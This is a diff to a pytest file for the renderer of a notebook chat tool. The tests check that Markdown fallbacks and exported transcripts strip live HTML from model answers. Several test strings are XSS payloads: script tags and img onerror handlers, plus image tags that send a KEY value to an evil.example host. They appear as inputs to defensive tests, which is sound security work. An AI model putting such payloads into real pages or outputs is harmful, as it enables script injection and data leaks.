@@ -8,7 +8,7 @@ import re
 import pytest
 
 from glm_nb.chat import Done, PromptProgress, TextDelta, ThinkingDelta, ToolCallEvent, ToolResultEvent, Usage
-from glm_nb.render import MIME_TYPE, Transcript, TranscriptBuilder
+from glm_nb.render import MIME_TYPE, Part, Transcript, TranscriptBuilder
 from glm_nb.tools import ToolCall, ToolResult
 
 HOSTILE = '<script>alert(1)</script><img src=x onerror="alert(2)">'
@@ -90,6 +90,7 @@ def test_markdown_fallback_keeps_code_blocks_verbatim():
         '<div>\n```\n\n```\n<img src="https://evil.example/leak?d=KEY" onerror="alert(1)">\n```\n',  # a fence moves
         "<!-- note -->\n    <img src=x onerror=alert(1)>\n",  # indented code after an HTML block
         "Done. ![status](https://evil.example/pixel.png?d=KEY)\n",  # an image fetches its address
+        "```\nfoo\r```\r<img src=x onerror=alert(1)>\n",  # a lone carriage return ends a line too
     ],
 )
 def test_the_markdown_fallback_rendered_with_raw_html_on_holds_no_tag_and_no_image(answer):
@@ -99,6 +100,48 @@ def test_the_markdown_fallback_rendered_with_raw_html_on_holds_no_tag_and_no_ima
     rendered = MarkdownIt("commonmark", {"html": True}).render(t._repr_mimebundle_()[0]["text/markdown"])
     tags = re.findall(r"<([a-z]+)[^>]*>", rendered)  # what a browser would make elements of
     assert set(tags) <= {"p", "pre", "code", "em", "a"} and not re.search(r"<[a-z][^>]*onerror", rendered), tags
+
+
+def _live_tags(markdown: str) -> tuple[set[str], bool]:
+    """The elements a renderer with raw HTML on makes of `markdown`, and whether any has an `onerror`."""
+    from markdown_it import MarkdownIt
+
+    rendered = MarkdownIt("commonmark", {"html": True}).render(markdown)
+    return set(re.findall(r"<([a-z]+)[^>]*>", rendered)), bool(re.search(r"<[a-z][^>]*onerror", rendered))
+
+
+def test_a_fence_left_open_before_a_tool_call_does_not_unfence_the_code_after_it():
+    call = ToolCall("search", {"q": "x"})
+    events = [
+        TextDelta("Looking:\n```"), ToolCallEvent(call), ToolResultEvent(ToolResult.success(call, "found")),
+        TextDelta("```\n<img src=x onerror=alert(1)>"), Done("stop", Usage()),
+    ]  # fmt: skip
+    _, t = _build(events)
+
+    tags, onerror = _live_tags(t._repr_mimebundle_()[0]["text/markdown"])
+
+    assert tags <= {"p", "pre", "code", "em"} and not onerror, tags
+
+
+def test_an_answer_cut_off_inside_a_code_block_keeps_its_footer_out_of_the_code():
+    _, t = _build([TextDelta("Here:\n\n```python\nfor i in range("), Done("length", Usage(new_tokens=7))])
+
+    from markdown_it import MarkdownIt
+
+    rendered = MarkdownIt("commonmark").render(t._repr_mimebundle_()[0]["text/markdown"])
+
+    assert "<em>m · 7 tokens · stopped at the token limit</em>" in rendered, rendered
+
+
+def test_an_exported_prompt_ending_in_a_list_does_not_take_in_the_reply_under_it():
+    from glm_nb.render.page import transcripts_markdown
+
+    code = "  ```\n<img src=x onerror=alert(1)>\n  ```"  # alone: a fence, its line kept as written
+    t = Transcript("chat", "m", "Compare:\n- a\n- b", parts=(Part("text", code),), answer=code, finish_reason="stop")
+
+    tags, onerror = _live_tags(transcripts_markdown([t]))
+
+    assert not onerror and "img" not in tags, tags
 
 
 def test_json_that_does_not_parse_leaves_a_note_and_no_value():
@@ -219,7 +262,7 @@ def test_a_streaming_record_renders_a_finished_thinking_once_not_at_every_snapsh
 def test_two_outputs_of_the_same_artifact_get_frames_of_their_own():
     from glm_nb.render.markdown import markdown_html
 
-    text = '```html\n<button>Click</button>\n```'
+    text = "```html\n<button>Click</button>\n```"
     ids = [re.findall(r"glm-nb-frame-[0-9a-f]+", markdown_html(text)) for _ in range(2)]
     assert ids[0] and ids[1] and set(ids[0]).isdisjoint(ids[1])  # one page, two outputs: no shared element id
 
